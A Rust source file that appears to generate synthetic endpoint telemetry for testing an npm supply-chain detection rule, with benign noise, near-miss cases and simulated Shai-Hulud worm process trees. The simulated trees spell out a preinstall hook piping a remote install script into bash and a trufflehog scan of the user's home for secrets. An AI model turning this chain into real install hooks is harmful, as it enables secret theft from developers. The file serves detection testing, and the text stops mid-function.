//! What happens on the hosts: the host inventory, background noise scenarios (shells, cron,
//! systemd, builds, node servers, yarn, npm ci, near-misses) and npm install trees (benign
//! lifecycle scripts and Shai-Hulud-like ones). Every scenario only schedules events at or
//! after its start time, which keeps the output in time order.

use std::sync::Arc;

use super::model::{
    image, Ctx, Host, Image, Mark, Os, Proc, Sensor, SpawnOpts, Spawned, User, LINUX_USERS,
    MAC_USER, ROOT,
};
use super::rng::Rng;
use super::truth::{NearMiss, Plan, TreeKind};

/// Linux distributions: (family/platform, os.name, version, full name, kernel).
pub(crate) const LINUX_FLAVORS: [(&str, &str, &str, &str, &str); 3] = [
    (
        "ubuntu",
        "Ubuntu",
        "22.04.4",
        "Ubuntu 22.04.4 LTS",
        "5.15.0-105-generic",
    ),
    (
        "debian",
        "Debian GNU/Linux",
        "12",
        "Debian GNU/Linux 12 (bookworm)",
        "6.1.0-18-amd64",
    ),
    (
        "rhel",
        "Red Hat Enterprise Linux",
        "9.3",
        "Red Hat Enterprise Linux 9.3 (Plow)",
        "5.14.0-362.8.1.el9_3.x86_64",
    ),
];
/// macOS: (family, name, version, full name, kernel).
pub(crate) const MAC_FLAVOR: (&str, &str, &str, &str, &str) =
    ("darwin", "macOS", "14.4.1", "macOS Sonoma 14.4.1", "23.4.0");

const DEFEND_NAMES: [&str; 6] = ["web", "build", "api", "ci-runner", "dev-ws", "worker"];
const CS_NAMES: [&str; 3] = ["ip-10-0", "app", "batch"];

/// Builds `n` hosts: about 30 % CrowdStrike (spread evenly), the rest Elastic Defend, with
/// every tenth host from the fifth on a macOS Defend host.
pub(crate) fn build_hosts(n: u32, rng: &mut Rng, from_ms: i64) -> Vec<Host> {
    let mut hosts = Vec::with_capacity(n as usize);
    for i in 0..n {
        // Bresenham-style spread: host i is CrowdStrike when floor(0.3(i+1)) > floor(0.3 i).
        let crowdstrike = (3 * (i + 1)) / 10 > (3 * i) / 10;
        let mac = !crowdstrike && i % 10 == 4;
        let sensor = if crowdstrike {
            Sensor::CrowdStrike
        } else {
            Sensor::Defend
        };
        let os = if mac { Os::Macos } else { Os::Linux };
        let id = match (sensor, os) {
            (Sensor::Defend, Os::Macos) => rng.uuid().to_uppercase(),
            _ => rng.hex(32),
        };
        let name = match (sensor, os) {
            (_, Os::Macos) => format!("mbp-{:03}", i + 1),
            (Sensor::Defend, _) => format!("{}-{:02}", DEFEND_NAMES[i as usize % 6], i + 1),
            (Sensor::CrowdStrike, _) => {
                let stem = CS_NAMES[i as usize % 3];
                if stem == "ip-10-0" {
                    format!("ip-10-0-{}-{}", rng.range(1, 9), rng.range(2, 254))
                } else {
                    format!("{stem}-{:02}", i + 1)
                }
            }
        };
        let ip = format!(
            "10.{}.{}.{}",
            rng.range(0, 9),
            rng.range(0, 254),
            rng.range(2, 254)
        );
        let mac_addr = (0..6)
            .map(|_| rng.hex(2))
            .collect::<Vec<_>>()
            .join("-")
            .to_uppercase();
        let agent_id = rng.uuid();
        let cid = rng.hex(32);
        let flavor = rng.index(LINUX_FLAVORS.len());
        let mut host = Host::new(
            sensor, os, id, name, agent_id, cid, ip, mac_addr, flavor, rng,
        );
        populate(&mut host, rng, from_ms);
        hosts.push(host);
    }
    hosts
}

/// Paths that differ between systems.
pub(crate) struct Paths {
    shell: &'static str,
    node: &'static str,
    npm: &'static str,
    yarn: &'static str,
    /// Where `/bin/sh` resolves (Defend reports the resolved image; argv[0] stays `sh`).
    sh: &'static str,
    home_root: &'static str,
}

pub(crate) fn paths(host: &Host) -> Paths {
    match host.os {
        Os::Macos => Paths {
            shell: "/bin/zsh",
            node: "/usr/local/bin/node",
            npm: "/usr/local/bin/npm",
            yarn: "/usr/local/bin/yarn",
            sh: "/bin/sh",
            home_root: "/Users",
        },
        Os::Linux => Paths {
            shell: "/usr/bin/bash",
            node: "/usr/bin/node",
            npm: "/usr/bin/npm",
            yarn: "/usr/bin/yarn",
            sh: if host.os_flavor == 2 {
                "/usr/bin/bash"
            } else {
                "/usr/bin/dash"
            },
            home_root: "/home",
        },
    }
}

fn populate(host: &mut Host, rng: &mut Rng, from_ms: i64) {
    let p = paths(host);
    let boot = from_ms - rng.range(86_400_000, 30 * 86_400_000);
    let init_img = if host.os == Os::Macos {
        image("/sbin/launchd", &["/sbin/launchd"])
    } else {
        image("/usr/lib/systemd/systemd", &["/sbin/init", "splash"])
    };
    let init = host.existing_process(rng, None, init_img, boot, ROOT, "/", Some("init"));
    let sshd = host.existing_process(
        rng,
        Some(&init),
        image(
            "/usr/sbin/sshd",
            &[
                "sshd:",
                "/usr/sbin/sshd",
                "-D",
                "[listener]",
                "0",
                "of",
                "10-100",
                "startups",
            ],
        ),
        boot + 4_000,
        ROOT,
        "/",
        Some("init"),
    );
    let cron = host.existing_process(
        rng,
        Some(&init),
        image("/usr/sbin/cron", &["/usr/sbin/cron", "-f", "-P"]),
        boot + 5_000,
        ROOT,
        "/",
        Some("init"),
    );
    let mut shells = Vec::new();
    let users: Vec<User> = if host.os == Os::Macos {
        vec![MAC_USER]
    } else {
        LINUX_USERS.to_vec()
    };
    for (k, user) in users.iter().enumerate() {
        let login = from_ms - rng.range(60_000, 8 * 3_600_000);
        let session = host.existing_process(
            rng,
            Some(&sshd),
            image(
                "/usr/sbin/sshd",
                &["sshd:", &format!("{}@pts/{k}", user.name)],
            ),
            login,
            *user,
            "/",
            None,
        );
        let shell_name = p.shell.rsplit('/').next().unwrap_or("bash");
        let home = format!("{}/{}", p.home_root, user.name);
        let shell = host.existing_process(
            rng,
            Some(&session),
            image(p.shell, &[&format!("-{shell_name}")]),
            login + 40,
            *user,
            &home,
            Some("sshd"),
        );
        shells.push(shell);
    }
    let server_user = if host.os == Os::Macos {
        MAC_USER
    } else {
        LINUX_USERS[0]
    };
    let node_server = host.existing_process(
        rng,
        Some(&init),
        image(p.node, &["node", "server.js"]),
        boot + 9_000,
        server_user,
        "/srv/app",
        Some("init"),
    );
    host.init = Some(init);
    host.sshd = Some(sshd);
    host.cron = Some(cron);
    host.shells = shells;
    host.node_server = Some(node_server);
}

/// Background scenarios.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Noise {
    ShellCommand,
    Subshell,
    Cron,
    Systemd,
    SshLogin,
    Git,
    Build,
    Python,
    NodeServerStart,
    NodeServerChild,
    NpmCi,
    NpmI,
    Yarn,
    Inventory,
    NearCase,
    NearLate,
    NearIgnoreScripts,
    NearSyntheticParent,
    NearSyntheticChild,
    NearNoParentName,
    NearForkOnly,
}

/// All background scenarios with their base weights.
pub(crate) const NOISE: [(Noise, f64); 21] = [
    (Noise::ShellCommand, 30.0),
    (Noise::Subshell, 6.0),
    (Noise::Cron, 5.0),
    (Noise::Systemd, 5.0),
    (Noise::SshLogin, 2.0),
    (Noise::Git, 6.0),
    (Noise::Build, 4.0),
    (Noise::Python, 5.0),
    (Noise::NodeServerStart, 2.0),
    (Noise::NodeServerChild, 5.0),
    (Noise::NpmCi, 1.5),
    (Noise::NpmI, 1.5),
    (Noise::Yarn, 1.5),
    (Noise::Inventory, 3.0),
    (Noise::NearCase, 0.4),
    (Noise::NearLate, 0.4),
    (Noise::NearIgnoreScripts, 0.4),
    (Noise::NearSyntheticParent, 0.6),
    (Noise::NearSyntheticChild, 0.6),
    (Noise::NearNoParentName, 0.6),
    (Noise::NearForkOnly, 0.6),
];

/// The weight of a scenario on a host of this kind (zero where the sensor cannot show it).
pub(crate) fn noise_weight(n: Noise, base: f64, sensor: Sensor) -> f64 {
    let cs = sensor == Sensor::CrowdStrike;
    match n {
        Noise::Subshell | Noise::NearForkOnly if cs => 0.0,
        Noise::Inventory
        | Noise::NearSyntheticParent
        | Noise::NearSyntheticChild
        | Noise::NearNoParentName
            if !cs =>
        {
            0.0
        }
        _ => base,
    }
}

const COMMANDS: [(&str, &[&str]); 14] = [
    ("/usr/bin/ls", &["ls", "-la"]),
    ("/usr/bin/cat", &["cat", "/etc/os-release"]),
    ("/usr/bin/grep", &["grep", "-rn", "TODO", "src"]),
    ("/usr/bin/ps", &["ps", "aux"]),
    ("/usr/bin/less", &["less", "README.md"]),
    ("/usr/bin/vim", &["vim", "config.yaml"]),
    ("/usr/bin/df", &["df", "-h"]),
    ("/usr/bin/free", &["free", "-m"]),
    ("/usr/bin/tail", &["tail", "-f", "/var/log/syslog"]),
    (
        "/usr/bin/journalctl",
        &["journalctl", "-u", "nginx", "--since", "1 hour ago"],
    ),
    ("/usr/bin/top", &["top", "-b", "-n", "1"]),
    (
        "/usr/bin/curl",
        &["curl", "-s", "http://localhost:8080/health"],
    ),
    ("/usr/bin/docker", &["docker", "ps"]),
    ("/usr/bin/ssh", &["ssh", "deploy@10.0.4.12"]),
];

const PACKAGES: [&str; 10] = [
    "express",
    "lodash",
    "react",
    "typescript",
    "esbuild",
    "sharp",
    "bcrypt",
    "husky",
    "core-js",
    "@ctrl/tinycolor",
];

fn opts() -> SpawnOpts {
    SpawnOpts::default()
}

fn marks(m: &[Mark]) -> SpawnOpts {
    SpawnOpts {
        marks: m.to_vec(),
        ..SpawnOpts::default()
    }
}

fn sh_c(p: &Paths, script: &str) -> Arc<Image> {
    image(p.sh, &["sh", "-c", script])
}

impl Ctx<'_> {
    fn shell(&mut self) -> Proc {
        let i = self.rng.index(self.host.shells.len().max(1));
        match self.host.shells.get(i) {
            Some(s) => s.clone(),
            None => self.init(),
        }
    }

    fn init(&mut self) -> Proc {
        if let Some(init) = &self.host.init {
            return init.clone();
        }
        // Hosts are populated before any scenario runs; this only keeps the code panic-free.
        let init = self.host.existing_process(
            self.rng,
            None,
            image("/usr/lib/systemd/systemd", &["/sbin/init"]),
            0,
            ROOT,
            "/",
            Some("init"),
        );
        self.host.init = Some(init.clone());
        init
    }

    /// Registers a tree plan. On a macOS host every plan becomes the `macos` near-miss: the
    /// OS condition fails first, whatever else the tree does.
    fn register(
        &mut self,
        kind: TreeKind,
        plan: Plan,
        note: Option<&'static str>,
        single: bool,
    ) -> u64 {
        let plan = if self.host.os == Os::Macos {
            Plan::NearMiss(NearMiss::Macos)
        } else {
            plan
        };
        self.trees.register(kind, plan, note, single)
    }

    /// Runs one background scenario starting at `t0`.
    pub(crate) fn noise(&mut self, kind: Noise, t0: i64) {
        let p = paths(self.host);
        let s = t0 + 3;
        match kind {
            Noise::ShellCommand => {
                let sh = self.shell();
                let (exe, args) = *self.rng.pick(&COMMANDS);
                let exe = if self.host.os == Os::Macos {
                    exe.replace("/usr/bin/", "/bin/")
                } else {
                    exe.to_string()
                };
                let life = self.rng.range(5, 4_000);
                self.spawn(
                    &sh,
                    s,
                    image(&exe, args),
                    life,
                    SpawnOpts {
                        new_group: true,
                        ..opts()
                    },
                );
            }
            Noise::Subshell => {
                let sh = self.shell();
                let life = self.rng.range(2, 60);
                self.spawn(
                    &sh,
                    s,
                    sh.image.clone(),
                    life,
                    SpawnOpts {
                        fork_only: true,
                        ..opts()
                    },
                );
            }
            Noise::Cron => {
                let cron = self.host.cron.clone().unwrap_or_else(|| self.init());
                let script = "cd / && run-parts --report /etc/cron.hourly";
                // Raw command line keeps the single quotes cron users write; FDR's Windows-style
                // split (single quotes are no quote characters there) then yields "'cd" ...
                // "/etc/cron.hourly'".
                let sh = self.spawn(
                    &cron,
                    s,
                    sh_c(&p, script),
                    1_500,
                    SpawnOpts {
                        command_line: Some(format!("/bin/sh -c '{script}'")),
                        new_session: Some("init"),
                        user: Some(ROOT),
                        cwd: Some("/".into()),
                        ..opts()
                    },
                );
                let rp = self.spawn(
                    &sh.proc,
                    sh.start_ts + 5,
                    image(
                        "/usr/bin/run-parts",
                        &["run-parts", "--report", "/etc/cron.hourly"],
                    ),
                    1_400,
                    opts(),
                );
                self.spawn(
                    &rp.proc,
                    rp.start_ts + 10,
                    image("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]),
                    900,
                    opts(),
                );
            }
            Noise::Systemd => {
                let init = self.init();
                let (exe, args): (&str, &[&str]) = *self.rng.pick(&[
                    (
                        "/usr/bin/systemd-tmpfiles",
                        &["systemd-tmpfiles", "--clean"][..],
                    ),
                    (
                        "/usr/lib/apt/apt.systemd.daily",
                        &["/bin/sh", "/usr/lib/apt/apt.systemd.daily", "update"][..],
                    ),
                    (
                        "/usr/sbin/logrotate",
                        &["/usr/sbin/logrotate", "/etc/logrotate.conf"][..],
                    ),
                    ("/usr/bin/fwupdmgr", &["/usr/bin/fwupdmgr", "refresh"][..]),
                ]);
                let life = self.rng.range(50, 5_000);
                self.spawn(
                    &init,
                    s,
                    image(exe, args),
                    life,
                    SpawnOpts {
                        new_session: Some("init"),
                        user: Some(ROOT),
                        cwd: Some("/".into()),
                        ..opts()
                    },
                );
            }
            Noise::SshLogin => {
                let sshd = self.host.sshd.clone().unwrap_or_else(|| self.init());
                let user = if self.host.os == Os::Macos {
                    MAC_USER
                } else {
                    *self.rng.pick(&LINUX_USERS)
                };
                let priv_ = self.spawn(
                    &sshd,
                    s,
                    image(
                        "/usr/sbin/sshd",
                        &["sshd:", &format!("{} [priv]", user.name)],
                    ),
                    20_000,
                    opts(),
                );
                let home = format!("{}/{}", p.home_root, user.name);
                let shell_name = p.shell.rsplit('/').next().unwrap_or("bash").to_string();
                let login = self.spawn(
                    &priv_.proc,
                    priv_.start_ts + 200,
                    image(p.shell, &[&format!("-{shell_name}")]),
                    19_000,
                    SpawnOpts {
                        new_session: Some("sshd"),
                        user: Some(user),
                        cwd: Some(home.into()),
                        ..opts()
                    },
                );
                let mut t = login.start_ts + 30;
                for (exe, args) in [
                    ("/usr/bin/id", &["id"][..]),
                    ("/usr/bin/uname", &["uname", "-a"][..]),
                ] {
                    self.spawn(&login.proc, t, image(exe, args), 4, opts());
                    t += self.rng.range(10, 400);
                }
            }
            Noise::Git => {
                let sh = self.shell();
                let verb = *self.rng.pick(&["pull", "fetch", "status", "log"]);
                let git = self.spawn(
                    &sh,
                    s,
                    image("/usr/bin/git", &["git", verb]),
                    1_500,
                    SpawnOpts {
                        new_group: true,
                        ..opts()
                    },
                );
                if verb == "pull" || verb == "fetch" {
                    self.spawn(
                        &git.proc,
                        git.start_ts + 20,
                        image(
                            "/usr/lib/git-core/git-remote-https",
                            &[
                                "git-remote-https",
                                "origin",
                                "https://github.com/acme/app.git",
                            ],
                        ),
                        1_200,
                        opts(),
                    );
                }
            }
            Noise::Build => {
                let sh = self.shell();
                let make = self.spawn(
                    &sh,
                    s,
                    image("/usr/bin/make", &["make", "-j4"]),
                    3_000,
                    SpawnOpts {
                        new_group: true,
                        ..opts()
                    },
                );
                let cc = self.spawn(
                    &make.proc,
                    make.start_ts + 15,
                    image(
                        "/usr/bin/cc",
                        &["cc", "-O2", "-Wall", "-c", "main.c", "-o", "main.o"],
                    ),
                    900,
                    opts(),
                );
                let cc1 = self.spawn(
                    &cc.proc,
                    cc.start_ts + 5,
                    image(
                        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
                        &[
                            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
                            "-quiet",
                            "main.c",
                            "-O2",
                            "-Wall",
                            "-o",
                            "/tmp/ccq2R1.s",
                        ],
                    ),
                    600,
                    opts(),
                );
                self.spawn(
                    &cc.proc,
                    cc1.start_ts + 610,
                    image(
                        "/usr/bin/as",
                        &["as", "--64", "-o", "main.o", "/tmp/ccq2R1.s"],
                    ),
                    80,
                    opts(),
                );
            }
            Noise::Python => {
                let sh = self.shell();
                let py = self.spawn(
                    &sh,
                    s,
                    image("/usr/bin/python3", &["python3", "manage.py", "test"]),
                    6_000,
                    SpawnOpts {
                        new_group: true,
                        ..opts()
                    },
                );
                let child_at = py.start_ts + self.rng.range(100, 3_000);
                self.spawn(
                    &py.proc,
                    child_at,
                    sh_c(&p, "git rev-parse HEAD"),
                    30,
                    opts(),
                );
            }
            Noise::NodeServerStart => {
                // `node server.js`: process.name node but no "install" argument.
                let sh = self.shell();
                let life = self.rng.range(20_000, 120_000);
                let node = self.spawn(
                    &sh,
                    s,
                    image(p.node, &["node", "server.js"]),
                    life,
                    SpawnOpts {
                        new_group: true,
                        ..opts()
                    },
                );
                let child_at = node.start_ts + self.rng.range(500, 5_000);
                self.spawn(
                    &node.proc,
                    child_at,
                    sh_c(&p, &format!("ps -o rss= -p {}", node.proc.pid)),
                    15,
                    opts(),
                );
            }
            Noise::NodeServerChild => {
                // Children of a long-running node: stage-2 look-alikes with no stage 1.
                let server = self.host.node_server.clone().unwrap_or_else(|| self.init());
                let script =
                    *self
                        .rng
                        .pick(&["git rev-parse --short HEAD", "uname -r", "df -k /srv"]);
                let life = self.rng.range(5, 80);
                self.spawn(&server, s, sh_c(&p, script), life, opts());
            }
            Noise::NpmCi | Noise::NpmI => {
                let sh = self.shell();
                let args: Vec<&str> = if kind == Noise::NpmCi {
                    vec!["node", p.npm, "ci"]
                } else {
                    vec!["node", p.npm, "i", *self.rng.pick(&PACKAGES)]
                };
                let with_children = self.rng.chance(0.5);
                let tree = with_children.then(|| {
                    self.register(
                        TreeKind::Benign,
                        Plan::NearMiss(NearMiss::NoInstallArg),
                        None,
                        false,
                    )
                });
                self.npm_with_children(
                    &sh,
                    s,
                    &args,
                    tree,
                    if with_children { 2 } else { 0 },
                    ChildStyle::Normal,
                    None,
                );
            }
            Noise::Yarn => {
                let sh = self.shell();
                let yarn_args: Vec<&str> = if self.rng.chance(0.5) {
                    vec!["node", p.yarn]
                } else {
                    vec!["node", p.yarn, "add", "lodash"]
                };
                self.npm_with_children(&sh, s, &yarn_args, None, 1, ChildStyle::Normal, None);
            }
            Noise::Inventory => {
                let candidates = [
                    self.host.sshd.clone(),
                    self.host.cron.clone(),
                    self.host.node_server.clone(),
                ];
                if let Some(p) = self.rng.pick(&candidates).clone() {
                    // All three were started by init (see `populate`).
                    let init = self.init();
                    self.synthetic_inventory(s, &p, &init);
                }
            }
            Noise::NearCase => self.benign_npm_tree(
                s,
                Plan::NearMiss(NearMiss::Case),
                None,
                &["node", p.npm, "Install"],
                Children::Random,
                ChildStyle::Normal,
                None,
            ),
            Noise::NearLate => self.benign_npm_tree(
                s,
                Plan::Expected,
                Some("first child 10.001 s after npm"),
                &["node", p.npm, "install"],
                Children::Random,
                ChildStyle::Normal,
                Some(10_001),
            ),
            Noise::NearIgnoreScripts => self.benign_npm_tree(
                s,
                Plan::NearMiss(NearMiss::IgnoreScripts),
                None,
                &["node", p.npm, "install", "--ignore-scripts"],
                Children::Exactly(0),
                ChildStyle::Normal,
                None,
            ),
            Noise::NearSyntheticParent => self.benign_npm_tree(
                s,
                Plan::NearMiss(NearMiss::SyntheticParent),
                None,
                &["node", p.npm, "install"],
                Children::Exactly(2),
                ChildStyle::SyntheticParent,
                None,
            ),
            // One child only: a later genuine child would still match.
            Noise::NearSyntheticChild => self.benign_npm_tree(
                s,
                Plan::NearMiss(NearMiss::SyntheticChild),
                None,
                &["node", p.npm, "install"],
                Children::Exactly(1),
                ChildStyle::SyntheticChild,
                None,
            ),
            Noise::NearNoParentName => self.benign_npm_tree(
                s,
                Plan::NearMiss(NearMiss::NoParentName),
                None,
                &["node", p.npm, "install"],
                Children::Exactly(2),
                ChildStyle::NoParentName,
                None,
            ),
            Noise::NearForkOnly => self.benign_npm_tree(
                s,
                Plan::NearMiss(NearMiss::ForkOnly),
                None,
                &["node", p.npm, "install"],
                Children::Exactly(1),
                ChildStyle::ForkOnly,
                None,
            ),
        }
    }

    /// A benign npm tree under a shell: registered with `plan` (and `note`), then `args` as the
    /// npm process with its lifecycle children. The order of random draws (shell, tree, child
    /// count) is part of the pinned output.
    #[allow(clippy::too_many_arguments)]
    fn benign_npm_tree(
        &mut self,
        at: i64,
        plan: Plan,
        note: Option<&'static str>,
        args: &[&str],
        children: Children,
        style: ChildStyle,
        first_delay: Option<i64>,
    ) {
        let sh = self.shell();
        // With no child coming, the truth record is complete with the npm event alone.
        let single = matches!(children, Children::Exactly(0));
        let tree = self.register(TreeKind::Benign, plan, note, single);
        let n = match children {
            Children::Exactly(n) => n,
            Children::Random => self.rng.range(1, 3) as usize,
        };
        self.npm_with_children(&sh, at, args, Some(tree), n, style, first_delay);
    }

    /// An npm-like node process with `n` lifecycle-script children (`sh -c <benign script>`).
    /// `first_delay` pins the first child's delay (else 50 ms – 8 s).
    #[allow(clippy::too_many_arguments)]
    fn npm_with_children(
        &mut self,
        parent: &Proc,
        at: i64,
        args: &[&str],
        tree: Option<u64>,
        n: usize,
        style: ChildStyle,
        first_delay: Option<i64>,
    ) -> Spawned {
        let p = paths(self.host);
        let delays = self.child_delays(n, first_delay);
        let life = delays.last().copied().unwrap_or(0) + self.rng.range(1_500, 20_000);
        let npm = self.spawn(
            parent,
            at,
            image(p.node, args),
            life,
            SpawnOpts {
                via_env: true,
                new_group: true,
                synthetic: style == ChildStyle::SyntheticParent,
                marks: tree.map(Mark::Stage0).into_iter().collect(),
                ..opts()
            },
        );
        for d in delays {
            let script = *self.rng.pick(&[
                "node install.js",
                "node-gyp rebuild",
                "prebuild-install || node-gyp rebuild",
            ]);
            let child_marks: Vec<Mark> = tree.map(Mark::Child).into_iter().collect();
            let o = SpawnOpts {
                marks: child_marks,
                synthetic: style == ChildStyle::SyntheticChild,
                hide_parent_name: style == ChildStyle::NoParentName,
                fork_only: style == ChildStyle::ForkOnly,
                exit_code: if style == ChildStyle::ForkOnly {
                    127
                } else {
                    0
                },
                ..opts()
            };
            let life = self.rng.range(200, 3_000);
            self.spawn(&npm.proc, npm.start_ts + d, sh_c(&p, script), life, o);
        }
        npm
    }

    /// Strictly increasing child delays (distinct milliseconds, so ES tie-breaking never decides).
    fn child_delays(&mut self, n: usize, first: Option<i64>) -> Vec<i64> {
        let mut out = Vec::with_capacity(n);
        let mut d = first.unwrap_or_else(|| self.rng.range(50, 8_000));
        for _ in 0..n {
            out.push(d);
            d += self.rng.range(20, 6_000);
        }
        out
    }

    /// One npm install tree at `t0`; returns what kind of tree it was.
    pub(crate) fn install_tree(
        &mut self,
        t0: i64,
        script_rate: f64,
        malicious_rate: f64,
    ) -> InstallOutcome {
        let p = paths(self.host);
        let sh = self.shell();
        let s = t0 + 3;
        let pkg = *self.rng.pick(&PACKAGES);
        let mut args = vec!["node", p.npm, "install"];
        if self.rng.chance(0.6) {
            args.push(pkg);
        }
        if !self.rng.chance(script_rate) {
            self.npm_with_children(&sh, s, &args, None, 0, ChildStyle::Normal, None);
            return InstallOutcome::NoScripts;
        }
        if self.rng.chance(malicious_rate) {
            let wave2 = self.rng.chance(0.5);
            let kind = if wave2 {
                TreeKind::ShaiHulud2
            } else {
                TreeKind::ShaiHulud1
            };
            let tree = self.register(kind, Plan::Expected, None, false);
            let delays = {
                let n = self.rng.range(1, 3) as usize;
                self.child_delays(n, None)
            };
            let npm = self.npm_process(&sh, s, &args, tree, &delays, 40_000);
            for (i, d) in delays.iter().enumerate() {
                let at = npm.start_ts + d;
                let m = [Mark::Child(tree)];
                if i == 0 && wave2 {
                    self.shai_hulud_2(&npm.proc, at, &m);
                } else if i == 0 {
                    self.shai_hulud_1(&npm.proc, at, &m);
                } else {
                    self.benign_script(&npm.proc, at, &m);
                }
            }
            return InstallOutcome::Scripts(kind);
        }
        let variant = self.rng.unit();
        if variant < 0.04 {
            // A nested npm: `npm install` runs `npm install --no-save <peer>` directly (no
            // shell), so that node process is stage 2 of the outer tree and stage 1 of its own.
            let outer = self.register(
                TreeKind::Benign,
                Plan::Expected,
                Some("outer npm of a nested npm install"),
                false,
            );
            let inner = self.register(
                TreeKind::Benign,
                Plan::Expected,
                Some("nested npm install (stage 2 of the outer tree and stage 1 of its own)"),
                false,
            );
            let d_outer = self.child_delays(1, None);
            let npm = self.npm_process(&sh, s, &args, outer, &d_outer, 20_000);
            let inner_args = ["node", p.npm, "install", "--no-save", "react-dom"];
            let inner_at = npm.start_ts + d_outer[0];
            let d_inner = {
                let n = self.rng.range(1, 2) as usize;
                self.child_delays(n, None)
            };
            let inner_life = d_inner.last().copied().unwrap_or(0) + 2_000;
            let inner_npm = self.spawn(
                &npm.proc,
                inner_at,
                image(p.node, &inner_args),
                inner_life,
                SpawnOpts {
                    via_env: true,
                    marks: vec![Mark::Child(outer), Mark::Stage0(inner)],
                    ..opts()
                },
            );
            for d in d_inner {
                self.benign_script(
                    &inner_npm.proc,
                    inner_npm.start_ts + d,
                    &[Mark::Child(inner)],
                );
            }
            return InstallOutcome::Scripts(TreeKind::Benign);
        }
        let (note, first) = if variant < 0.08 {
            (
                Some("maxspan boundary: first child exactly 10.000 s after npm"),
                Some(10_000),
            )
        } else {
            (None, None)
        };
        let tree = self.register(TreeKind::Benign, Plan::Expected, note, false);
        let delays = {
            let n = self.rng.range(1, 4) as usize;
            self.child_delays(n, first)
        };
        let npm = self.npm_process(&sh, s, &args, tree, &delays, 10_000);
        for d in delays {
            self.benign_script(&npm.proc, npm.start_ts + d, &[Mark::Child(tree)]);
        }
        InstallOutcome::Scripts(TreeKind::Benign)
    }

    fn npm_process(
        &mut self,
        sh: &Proc,
        s: i64,
        args: &[&str],
        tree: u64,
        delays: &[i64],
        tail: i64,
    ) -> Spawned {
        let p = paths(self.host);
        let life = delays.last().copied().unwrap_or(0) + self.rng.range(2_000, tail);
        let cwd: Arc<str> = format!("{}/project", sh.cwd).into();
        self.spawn(
            sh,
            s,
            image(p.node, args),
            life,
            SpawnOpts {
                via_env: true,
                new_group: true,
                cwd: Some(cwd),
                marks: vec![Mark::Stage0(tree)],
                ..opts()
            },
        )
    }

    /// A benign lifecycle script and what it runs.
    fn benign_script(&mut self, npm: &Proc, at: i64, m: &[Mark]) {
        let p = paths(self.host);
        let which = self.rng.index(5);
        let script = [
            "node-gyp rebuild",
            "node install.js",
            "husky install",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            "prebuild-install || node-gyp rebuild",
        ][which];
        let sh = self.spawn(npm, at, sh_c(&p, script), 4_000, marks(m));
        let t = sh.start_ts + self.rng.range(3, 40);
        match which {
            0 => {
                let gyp = self.spawn(
                    &sh.proc,
                    t,
                    image(
                        p.node,
                        &[
                            "node",
                            "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js",
                            "rebuild",
                        ],
                    ),
                    3_500,
                    SpawnOpts {
                        via_env: true,
                        ..opts()
                    },
                );
                // make's parent is node: a stage-2 look-alike keyed to node-gyp, which is no stage 1.
                let make = self.spawn(
                    &gyp.proc,
                    gyp.start_ts + 300,
                    image(
                        "/usr/bin/make",
                        &["make", "BUILDTYPE=Release", "-C", "build"],
                    ),
                    2_500,
                    opts(),
                );
                self.spawn(
                    &make.proc,
                    make.start_ts + 20,
                    image(
                        "/usr/bin/g++",
                        &[
                            "g++",
                            "-o",
                            "Release/obj.target/binding.o",
                            "../src/binding.cc",
                        ],
                    ),
                    1_800,
                    opts(),
                );
            }
            1 => {
                self.spawn(
                    &sh.proc,
                    t,
                    image(p.node, &["node", "install.js"]),
                    600,
                    opts(),
                );
            }
            2 => {
                // husky is a `#!/usr/bin/env node` script: its node process has "install" in
                // process.args, and it runs git right away, so ES matches it on its own.
                let nested = self.register(
                    TreeKind::Benign,
                    Plan::Expected,
                    Some("husky install: its own node process runs git"),
                    false,
                );
                let husky = self.spawn(
                    &sh.proc,
                    t,
                    image(
                        p.node,
                        &[
                            "node",
                            "/srv/app/project/node_modules/.bin/husky",
                            "install",
                        ],
                    ),
                    800,
                    SpawnOpts {
                        via_env: true,
                        marks: vec![Mark::Stage0(nested)],
                        ..opts()
                    },
                );
                let git_at = husky.start_ts + self.rng.range(30, 300);
                self.spawn(
                    &husky.proc,
                    git_at,
                    image(
                        "/usr/bin/git",
                        &["git", "config", "core.hooksPath", ".husky"],
                    ),
                    20,
                    marks(&[Mark::Child(nested)]),
                );
            }
            3 => {
                self.spawn(
                    &sh.proc,
                    t,
                    image(
                        p.node,
                        &["node", "-e", "try{require('./postinstall')}catch(e){}"],
                    ),
                    300,
                    opts(),
                );
            }
            _ => {
                self.spawn(
                    &sh.proc,
                    t,
                    image(
                        p.node,
                        &[
                            "node",
                            "/srv/app/project/node_modules/.bin/prebuild-install",
                        ],
                    ),
                    1_200,
                    SpawnOpts {
                        via_env: true,
                        ..opts()
                    },
                );
            }
        }
    }

    /// Shai-Hulud 2.0: `preinstall: node setup_bun.js` installs Bun and runs the payload.
    fn shai_hulud_2(&mut self, npm: &Proc, at: i64, m: &[Mark]) {
        let p = paths(self.host);
        let sh = self.spawn(npm, at, sh_c(&p, "node setup_bun.js"), 25_000, marks(m));
        let setup = self.spawn(
            &sh.proc,
            sh.start_ts + 4,
            image(p.node, &["node", "setup_bun.js"]),
            24_000,
            opts(),
        );
        let inst = self.spawn(
            &setup.proc,
            setup.start_ts + 120,
            sh_c(&p, "curl -fsSL https://bun.sh/install | bash"),
            6_000,
            opts(),
        );
        self.spawn(
            &inst.proc,
            inst.start_ts + 3,
            image(
                "/usr/bin/curl",
                &["curl", "-fsSL", "https://bun.sh/install"],
            ),
            900,
            opts(),
        );
        let bash = self.spawn(
            &inst.proc,
            inst.start_ts + 4,
            image("/usr/bin/bash", &["bash"]),
            5_500,
            opts(),
        );
        let home = format!("{}/{}", p.home_root, npm.user.name);
        let bun_dir = format!("{home}/.bun/bin");
        let zip = format!("{bun_dir}/bun.zip");
        self.spawn(
            &bash.proc,
            bash.start_ts + 2_500,
            image("/usr/bin/unzip", &["unzip", "-oqd", &bun_dir, &zip]),
            400,
            opts(),
        );
        let bun_exe = format!("{bun_dir}/bun");
        let bun = self.spawn(
            &setup.proc,
            inst.start_ts + 6_100,
            image(&bun_exe, &["bun", "bun_environment.js"]),
            17_000,
            opts(),
        );
        self.spawn(
            &bun.proc,
            bun.start_ts + 1_500,
            image(
                "/tmp/trufflehog",
                &["trufflehog", "filesystem", &home, "--json"],
